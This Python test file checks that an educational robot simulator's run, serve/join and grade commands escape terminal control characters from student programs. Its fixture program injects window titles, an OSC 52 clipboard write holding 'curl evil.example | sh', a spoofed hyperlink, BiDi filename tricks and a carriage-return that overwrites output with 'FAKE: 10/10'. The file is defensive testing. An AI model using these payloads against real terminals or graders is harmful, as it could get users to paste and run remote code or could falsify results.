"""A program writes terminal escape sequences: none reaches the teacher's (or a student's) terminal raw.

It prints (and raises, from a file whose name it chose) a window title (OSC 0 and 2), the clipboard (OSC
52), a cleared screen, cursor moves, a bell, a hyperlink (OSC 8), BiDi overrides, C1 controls and a lone
carriage return that would rewrite its line.  Through `ev3sim2d run`, `ev3sim2d serve` + `ev3sim2d join`
and `ev3sim2d grade`, no such byte reaches stdout or stderr, and every line is still there to read, with
each control character shown as its escape (grading/safe_text.py); the trace and --summary keep the text
as the program printed it.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import time
from pathlib import Path

from tests.grading.lesson_maker import write_lesson

ROOT = Path(__file__).resolve().parents[2]
ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"

EVIL = r"""
import base64, importlib.util, os, sys
ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"
print(ESC + "]0;window title" + BEL)
print(ESC + "]2;another title" + ST)
print(ESC + "]52;c;" + base64.b64encode(b"curl evil.example | sh").decode() + BEL)
print(ESC + "[2J" + ESC + "[H" + "screen cleared")
print(ESC + "[10A" + ESC + "[5;5H" + ESC + "[31m" + "cursor moved, red")
print("bell" + BEL)
print(ESC + "]8;;https://evil.example/" + ST + "a link" + ESC + "]8;;" + ST)
print("invoice\u202efdp.exe \u2066isolated\u2069 \u200fmark")
print("all good\rFAKE: 10/10")
print("\x9b2J C1 CSI \x9d0;C1 title\x9c")
print(ESC + "c" + "reset")
print("line one\nline two")
sys.stderr.write(ESC + "[41m" + "on stderr\n")
name = ESC + "]0;file title" + BEL + ".py"
with open(name, "w") as f:
    f.write("raise ValueError('\\x1b]0;error title\\x07\\u202e\\r' + 'message\\nsecond line')  # \x1b[2J\n")
spec = importlib.util.spec_from_file_location("evil", os.path.abspath(name))
spec.loader.exec_module(importlib.util.module_from_spec(spec))
"""

# What no output may hold: C0 controls but tab and newline, DEL, C1 controls, BiDi controls and marks,
# line and paragraph separators, and (as surrogate escapes) bytes that are not UTF-8.
FORBIDDEN = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029\udc80-\udcff]"
)


def assert_safe(raw: bytes, where: str) -> str:
    text = raw.decode("utf-8", "surrogateescape")
    found = FORBIDDEN.search(text)
    assert found is None, (
        f"{where}: {found.group()!r} in ...{text[max(found.start() - 60, 0) : found.end() + 20]!r}"
    )
    return text


def assert_readable(printed: str) -> None:
    """Every printed line is there, its control characters shown as escapes."""
    for shown in (
        "\\x1b]0;window title\\x07",
        "\\x1b]52;c;",
        "\\x1b[2J\\x1b[Hscreen cleared",
        "bell\\x07",
        "\\x1b]8;;https://evil.example/\\x1b\\a link",
        "invoice\\u202efdp.exe \\u2066isolated\\u2069 \\u200fmark",
        "all good\\rFAKE: 10/10",
        "\\x9b2J C1 CSI \\x9d0;C1 title\\x9c",
    ):
        assert shown in printed, shown
    lines = printed.splitlines()
    assert any(line.endswith("] line one") for line in lines) and any(
        line.endswith("] line two") for line in lines
    )


def assert_error_readable(shown: str) -> None:
    """The traceback and the one-line reason: the error's message and the file name, escaped."""
    assert "\\x1b]0;file title\\x07.py" in shown  # the file it raised from
    assert "ValueError: \\x1b]0;error title\\x07\\u202e\\rmessage" in shown


def _command(*args) -> list[str]:
    return [sys.executable, "-m", "ev3sim2d", *map(str, args)]


def _env() -> dict:
    return {**os.environ, "PYTHONHASHSEED": "0", "PYTHONUNBUFFERED": "1"}


def test_run_shows_a_programs_escape_sequences_escaped(tmp_path):
    program = tmp_path / f"student{ESC}[31m{BEL}.py"  # a name chosen by whoever handed the file in
    program.write_text(EVIL)
    done = subprocess.run(
        _command("run", program, "--time", "5", "--summary", "summary.json"),
        capture_output=True,
        cwd=tmp_path,
        env=_env(),
        timeout=300,
    )
    out, err = assert_safe(done.stdout, "stdout"), assert_safe(done.stderr, "stderr")
    assert_readable(out)
    assert "\\x1b[41mon stderr" in out  # (run shows both streams in time order on stdout)
    assert_error_readable(err)
    reason = err.strip().splitlines()[-1]
    assert reason.startswith("ev3sim2d: ValueError: \\x1b]0;error title") and "\\nsecond line" in reason
    summary = json.loads((tmp_path / "summary.json").read_text())  # the summary keeps the text as it was
    assert ESC + "]0;window title" + BEL in summary["output"]


class Served:
    """An `ev3sim2d serve` of one robot, its stdout and stderr in files."""

    def __init__(self, tmp_path: Path) -> None:
        self.out_path, self.err_path = tmp_path / "serve.out", tmp_path / "serve.err"
        self.process = subprocess.Popen(
            _command("serve", "--port", "0", "--maze", "empty", "--robots", "1", "--time", "5"),
            stdout=open(self.out_path, "wb"),
            stderr=open(self.err_path, "wb"),
            cwd=tmp_path,
            env=_env(),
        )
        end = time.monotonic() + 60
        while not (found := re.search(rb"serving .* on \S+:(\d+)", self.err_path.read_bytes())):
            assert self.process.poll() is None and time.monotonic() < end, self.err_path.read_text()
            time.sleep(0.02)
        self.address = f"127.0.0.1:{int(found.group(1))}"

    def stop(self) -> None:
        if self.process.poll() is None:
            self.process.kill()
        self.process.wait()


def test_serve_and_join_show_a_programs_escape_sequences_escaped(tmp_path):
    program = tmp_path / "evil.py"
    program.write_text(EVIL)
    served = Served(tmp_path)
    try:
        joined = subprocess.run(
            _command("join", served.address, program, "--name", f"bob{ESC}]0;name{BEL}\u202e"),
            capture_output=True,
            cwd=tmp_path,
            env=_env(),
            timeout=120,
        )
        served.process.wait(timeout=120)
    finally:
        served.stop()
    join_out, join_err = (
        assert_safe(joined.stdout, "join's stdout"),
        assert_safe(joined.stderr, "join's stderr"),
    )
    serve_out = assert_safe(served.out_path.read_bytes(), "serve's stdout")
    serve_err = assert_safe(served.err_path.read_bytes(), "serve's stderr")
    assert_readable(serve_out)
    assert_readable(join_out)  # the student's own computer shows the lines too
    assert "\\x1b[41mon stderr" in join_err
    assert_error_readable(join_err)
    assert "robot 1: ValueError: \\x1b]0;error title" in join_err  # the world's word on the robot
    assert "ValueError: \\x1b]0;error title" in serve_err  # serve's per-robot end line
    assert_error_readable(serve_err)


def test_grade_shows_a_programs_error_and_name_escaped(tmp_path):
    lesson = write_lesson(tmp_path / "lesson")
    folder = tmp_path / "class"
    folder.mkdir()
    (folder / f"mallory{ESC}]0;title{BEL}\u202e.py").write_text(EVIL)
    (folder / "alice.py").write_text("print('hello')\n")
    done = subprocess.run(
        _command("grade", lesson, folder, "--details"),
        capture_output=True,
        cwd=tmp_path,
        env=_env(),
        timeout=300,
    )
    out, err = assert_safe(done.stdout, "stdout"), assert_safe(done.stderr, "stderr")
    assert "mallory\\x1b]0;title\\x07\\u202e.py" in out and "mallory\\x1b]0;title\\x07\\u202e.py" in err
    assert "ValueError: \\x1b]0;error title\\x07\\u202e\\rmessage" in out  # the visible variant's error


def test_where_a_stopped_programs_threads_were_is_shown_escaped(tmp_path):
    """A program still running at the time limit is told where each thread was, by its name: a name the
    program chose, so it reaches the terminal with its control characters escaped, as printed lines do."""
    program = tmp_path / "named.py"
    program.write_text(
        "import threading, time\n"
        "def wait():\n"
        "    time.sleep(10**6)\n"
        "threading.Thread(target=wait, name='\\x1b]0;thread title\\x07\\x1b[2J', daemon=True).start()\n"
        "while True:\n"
        "    time.sleep(1)\n"
    )
    done = subprocess.run(
        _command("run", program, "--time", "2"), capture_output=True, cwd=tmp_path, env=_env(), timeout=300
    )
    err = assert_safe(done.stderr, "stderr")
    assert done.returncode == 0, err
    assert f"\\x1b]0;thread title\\x07\\x1b[2J at {program}, line 3" in err, err
